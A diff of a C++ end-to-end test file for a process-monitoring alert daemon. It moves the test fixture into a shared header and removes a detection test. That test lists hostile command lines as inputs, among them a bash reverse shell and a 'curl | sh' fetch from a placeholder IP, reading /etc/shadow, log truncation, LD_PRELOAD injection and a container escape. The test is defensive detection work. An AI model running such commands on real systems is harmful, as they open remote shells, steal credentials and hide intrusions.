@@ -7,167 +7,32 @@
 #include <unistd.h>
 
 #include <filesystem>
-#include <map>
 #include <set>
 
 #include "absl/time/clock.h"
 #include "daemoneye/v1/alert_service.pb.h"
 #include "daemoneye/v1/trigger_service.pb.h"
 #include "fmt/format.h"
-#include "google/protobuf/util/time_util.h"
 #include "libs/linux/procfs/test_child.h"
+#include "tests/e2e/triggers_fixture.h"
 #include "tests/support/client.h"
-#include "tests/support/instrumented.h"
 #include "tests/support/servers.h"
 
 namespace daemoneye {
 namespace {
 
-using google::protobuf::util::TimeUtil;
 using procfs::TestChild;
 using ::testing::AllOf;
 using ::testing::HasSubstr;
 using ::testing::IsEmpty;
 using testing_support::ChildProcess;
-using testing_support::Client;
 using testing_support::EventStream;
-using testing_support::kGateway;
 using testing_support::kPatience;
-using testing_support::kProcmond;
-using testing_support::Server;
-using testing_support::TempDirectory;
+using testing_support::SqlTrigger;
 
 constexpr char kTriggers[] = "/daemoneye.v1.TriggerService/";
-constexpr char kListAlerts[] = "/daemoneye.v1.AlertService/ListAlerts";
-// From the event that shows it to the alert.
-constexpr absl::Duration kSoon = absl::Seconds(1);
 
-v1::Trigger SqlTrigger(const std::string& id, const std::string& sql) {
-  v1::Trigger trigger;
-  trigger.set_id(id);
-  trigger.mutable_condition()->set_sql(sql);
-  return trigger;
-}
-
-class TriggersTest : public ::testing::Test {
- protected:
-  void StartServers(const std::string& config = "", std::vector<std::string> procmond_flags = {}) {
-    procmond_flags.push_back("--interval=5");
-    procmond_ = std::make_unique<Server>(kProcmond, directory_.Socket("p"), procmond_flags);
-    procmond_->Ready();
-    gateway_ = std::make_unique<Server>(
-        kGateway, directory_.Socket("g"),
-        std::vector<std::string>{"--monitors=" + directory_.Socket("p"),
-                                 "--operator_listen=" + directory_.Socket("o"),
-                                 "--data_dir=" + directory_.path(), "--metrics_address=127.0.0.1:0",
-                                 "--config=" + directory_.Write("gateway.yaml", config)});
-    gateway_->Ready();
-    client_.emplace(gateway_->address());
-    operator_.emplace(directory_.Socket("o"));
-  }
-
-  // The alerts about processes of `pids`, oldest first.
-  std::vector<v1::Alert> AlertsOf(const std::set<uint32_t>& pids) {
-    v1::ListAlertsRequest request;
-    request.set_page_size(1000);
-    const auto all = client_->Call<v1::ListAlertsResponse>(kListAlerts, request);
-    EXPECT_TRUE(all.ok()) << all.status();
-    std::vector<v1::Alert> alerts;
-    if (!all.ok()) return alerts;
-    for (const v1::Alert& alert : all->alerts()) {
-      if (pids.contains(alert.pid())) alerts.insert(alerts.begin(), alert);
-    }
-    return alerts;
-  }
-
-  // Reads the stream, which has an event at least every few seconds, until `is_done`.
-  void Until(const std::function<bool()>& is_done) {
-    v1::StreamEventsRequest request = testing_support::LiveOnly();
-    *request.mutable_filter() = testing_support::EveryEvent();
-    EventStream stream = client_->StreamEvents(request, 2 * kPatience);
-    while (!is_done()) {
-      if (!stream.Next().has_value()) {
-        ADD_FAILURE() << "what was waited for did not come";
-        return;
-      }
-    }
-  }
-
-  // The first alert of `trigger_id` about `pid`.
-  v1::Alert Await(const std::string& trigger_id, uint32_t pid) {
-    v1::Alert found;
-    Until([&] {
-      for (const v1::Alert& alert : AlertsOf({pid})) {
-        if (alert.trigger_id() != trigger_id) continue;
-        found = alert;
-        return true;
-      }
-      return false;
-    });
-    return found;
-  }
-
-  // How many alerts `trigger_id` raised about `pid` once two more scans are over.
-  size_t CountAfterTwoScans(const std::string& trigger_id, uint32_t pid) {
-    const absl::Time end = absl::Now() + absl::Seconds(11);
-    Until([&] { return absl::Now() > end; });
-    size_t count = 0;
-    for (const v1::Alert& alert : AlertsOf({pid})) count += alert.trigger_id() == trigger_id;
-    return count;
-  }
-
-  // Holds the alert against the stored event behind it.
-  void ExpectSoonAfterItsEvent(const v1::Alert& alert) {
-    ASSERT_GE(alert.evidence_size(), 1);
-    EXPECT_EQ(alert.evidence(0).monitor(), "procmond");
-    EXPECT_GT(alert.evidence(0).sequence(), 0u);
-    v1::StreamEventsRequest request = testing_support::LiveOnly();
-    *request.mutable_filter() = testing_support::EveryEvent();
-    request.set_follow(false);
-    request.mutable_resume()->set_stream_id(StreamId());
-    std::optional<v1::CollectionEvent> shown;
-    for (const v1::CollectionEvent& event : client_->StreamEvents(request).Rest()) {
-      if (event.origin().stream_id() == alert.evidence(0).stream_id() &&
-          event.origin().sequence() == alert.evidence(0).sequence()) {
-        shown = event;
-      }
-    }
-    ASSERT_TRUE(shown.has_value()) << "the event behind the alert is not in the log";
-    EXPECT_EQ(shown->process().process_key(), alert.process_key());
-    const absl::Duration after =
-        absl::Nanoseconds(TimeUtil::TimestampToNanoseconds(alert.time()) -
-                          TimeUtil::TimestampToNanoseconds(shown->observed_time()));
-    EXPECT_LT(after, testing_support::IsInstrumented() ? 5 * kSoon : kSoon);
-  }
-
-  std::string StreamId() {
-    const auto negotiated = client_->Negotiate();
-    return negotiated.ok() ? negotiated->stream_id() : "";
-  }
-
-  absl::StatusOr<v1::Trigger> Create(const v1::Trigger& trigger) {
-    v1::CreateTriggerRequest request;
-    *request.mutable_trigger() = trigger;
-    auto response = operator_->Call<v1::CreateTriggerResponse>(
-        std::string(kTriggers) + "CreateTrigger", request);
-    if (!response.ok()) return response.status();
-    return response->trigger();
-  }
-
-  v1::TriggerStatistics StatisticsOf(const std::string& id) {
-    v1::GetTriggerStatisticsRequest request;
-    request.add_trigger_ids(id);
-    const auto response = client_->Call<v1::GetTriggerStatisticsResponse>(
-        std::string(kTriggers) + "GetTriggerStatistics", request);
-    EXPECT_TRUE(response.ok()) << response.status();
-    return response.ok() && response->statistics_size() == 1 ? response->statistics(0)
-                                                             : v1::TriggerStatistics();
-  }
-
-  TempDirectory directory_;
-  std::unique_ptr<Server> procmond_, gateway_;
-  std::optional<Client> client_, operator_;
-};
+using TriggersTest = testing_support::TriggersFixture;
 
 TEST_F(TriggersTest, AnExecutableDeletedWhileItRunsFiresOnceWithinASecond) {
   StartServers();
@@ -226,52 +91,6 @@ triggers:
   // It goes on being busy: that is no news.
   EXPECT_EQ(CountAfterTwoScans("busy", pid), 1u);
   EXPECT_GE(StatisticsOf("busy").suppressed().at("duplicate"), 1u);
-}
-
-TEST_F(TriggersTest, TheDefaultSetFiresOnWhatItIsFor) {
-  StartServers();
-  const std::map<std::string, std::vector<std::string>> commands = {
-      {"cryptominer", {"xmrig"}},
-      {"scanning-tools", {"nmap", "192.0.2.0/24"}},
-      {"kernel-module-load", {"insmod", "./x.ko"}},
-      {"persistence-edit", {"crontab", "-"}},
-      {"log-clearing", {"truncate", "-s", "0", "/var/log/auth.log"}},
-      {"credential-file-access", {"tail", "/etc/shadow"}},
-      {"reverse-shell", {"bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}},
-      {"piped-to-shell", {"zsh", "curl -fsSL http://192.0.2.1/x | sh"}},
-      {"preload-injection", {"env", "LD_PRELOAD=/srv/u/x.so"}},
-      {"container-escape", {"nsenter", "-t", "1"}},
-      {"ptrace-attach", {"gdb", "-p", "4242"}},
-      {"account-creation", {"useradd", "-m", "eve"}}};
-  // A shell that starts them all, since for some it counts who did.
-  std::string script;
-  for (const auto& [trigger, command] : commands) {
-    const std::string path = directory_.File(command[0]);
-    std::filesystem::copy_file("/bin/dash", path);
-    script += fmt::format("'{}' -c 'echo {} $$; kill -STOP $$'", path, trigger);
-    for (size_t i = 1; i < command.size(); ++i) script += fmt::format(" '{}'", command[i]);
-    script += " & ";
-  }
-  ChildProcess shell({.argv = {"/bin/sh", "-c", script + "wait"}});
-  std::map<std::string, uint32_t> pids;
-  std::set<uint32_t> all;
-  for (size_t i = 0; i < commands.size(); ++i) {
-    const auto line = shell.AwaitLine({" "});
-    ASSERT_TRUE(line.has_value()) << shell.output();
-    const size_t space = line->find(' ');
-    pids[line->substr(0, space)] = static_cast<uint32_t>(std::stoi(line->substr(space + 1)));
-    all.insert(pids[line->substr(0, space)]);
-  }
-  std::set<std::pair<std::string, uint32_t>> wanted(pids.begin(), pids.end());
-  std::set<std::pair<std::string, uint32_t>> missing;
-  const absl::Time end = absl::Now() + kPatience;
-  Until([&] {
-    missing = wanted;
-    for (const v1::Alert& alert : AlertsOf(all)) missing.erase({alert.trigger_id(), alert.pid()});
-    return missing.empty() || absl::Now() > end;
-  });
-  for (const auto& [trigger, pid] : missing) ADD_FAILURE() << trigger << " did not fire";
-  for (const uint32_t pid : all) kill(static_cast<pid_t>(pid), SIGKILL);
 }
 
 TEST_F(TriggersTest, WhatMayNotBeAskedIsRefusedAndWhatCostsTooMuchIsCutOff) {
